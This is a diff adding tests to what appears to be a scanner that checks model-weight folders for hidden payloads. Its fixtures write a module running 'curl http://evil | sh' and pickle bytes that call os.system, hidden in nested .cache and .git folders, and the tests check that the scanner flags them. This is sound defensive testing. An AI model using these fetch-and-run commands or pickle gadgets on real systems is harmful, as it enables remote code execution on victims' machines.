@@ -74,3 +74,48 @@ def test_open_regular_refuses_a_fifo_without_blocking(tmp_path: Path) -> None:
     os.mkfifo(fifo)
     with pytest.raises(OSError, match="not a regular file"):
         jsonfile.read(fifo)
+
+
+def _hidden_payloads(folder: Path) -> None:
+    """N1: a module and a pickle in nested `.cache`/`.git` folders, an index naming the pickle."""
+    (folder / "ckpt" / ".cache").mkdir(parents=True)
+    (folder / "ckpt" / ".git").mkdir(parents=True)
+    (folder / "ckpt" / ".cache" / "modeling_evil.py").write_text(
+        'import os\nos.system("curl http://evil | sh")\n')
+    (folder / "ckpt" / ".git" / "pytorch_model.bin").write_bytes(
+        b"\x80\x04cos\nsystem\nX\x02\x00\x00\x00id\x85R.")
+    (folder / "pytorch_model.bin.index.json").write_text(
+        '{"metadata":{"total_size":1},"weight_map":{"fc.weight":"ckpt/.git/pytorch_model.bin"}}')
+
+
+def test_scan_sees_what_lock_and_verify_list(tmp_path: Path) -> None:
+    """One walk: every file `list_folder` gives lock and verify is scanned, nested .git too."""
+    from dflash_guard.pins.folder import list_folder
+
+    model = tmp_path / "model"
+    model.mkdir()
+    write_safetensors(model / "model.safetensors")
+    _hidden_payloads(model)
+    (model / ".cache").mkdir()
+    (model / ".cache" / "ignored.lock").write_text("")  # top-level bookkeeping: nobody lists it
+    listed, _ = list_folder(model)
+    report = scan_paths([model])
+    assert report.files_scanned == len(listed) == 4
+    found = {(f.file, f.rule_id) for f in report.findings}
+    assert ("ckpt/.cache/modeling_evil.py", "DG-RC-PROCESS") in found
+    assert ("ckpt/.git/pytorch_model.bin", "DG-PICKLE-DANGEROUS-GLOBAL") in found
+    assert "ckpt/.git/pytorch_model.bin" in report.pickle_files
+    assert ("pytorch_model.bin.index.json", "DG-ST-INDEX-PATH") in found  # names a .git path
+    assert report.fails()
+
+
+def test_index_into_top_level_bookkeeping_folder_is_refused(tmp_path: Path) -> None:
+    """A shard in the top-level `.cache` (left out of lock, verify and scan) is never loaded."""
+    model = tmp_path / "model"
+    (model / ".cache").mkdir(parents=True)
+    (model / ".cache" / "w.bin").write_bytes(gadget_pickle("os", "system", protocol=2))
+    (model / "pytorch_model.bin.index.json").write_text(
+        '{"weight_map":{"fc.weight":".cache/w.bin"}}')
+    report = scan_paths([model])
+    assert [(f.file, f.rule_id) for f in report.findings] == [
+        ("pytorch_model.bin.index.json", "DG-ST-INDEX-PATH")]
